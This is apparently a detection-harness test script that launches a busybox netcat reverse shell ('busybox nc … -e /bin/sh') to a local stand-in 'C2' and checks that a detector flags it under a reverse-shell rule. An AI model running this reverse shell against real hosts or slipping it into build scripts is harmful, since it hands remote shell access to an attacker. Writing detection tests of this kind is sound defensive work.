#!/bin/sh
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1095 Non-Application Layer Protocol
# reproduces: the netcat reverse shell of Alpine-based CI images, where netcat is busybox's applet (`busybox nc HOST PORT -e /bin/sh`, as in the reverse-shell cheat sheets and container-escape write-ups), so that no program named nc ever runs
# expect: reverse-shell-netcat ^(nc|busybox)$
# exec-borne: no
#
# busybox's nc connects to the harness's "C2" with a shell on the
# connection; the C2 sends one command that leaves the marker.
set -u

BB=$(command -v busybox) || { echo "busybox not installed" >&2; exit 77; }
"$BB" nc 2>&1 | grep -q -- '-e PROG' || { echo "this busybox's nc has no -e" >&2; exit 77; }
timeout 10 "$BB" nc 127.0.0.1 "${BW_ATTACK_LISTEN_PORT:?}" -e /bin/sh
[ -s "${BW_ATTACK_MARK:?}" ]
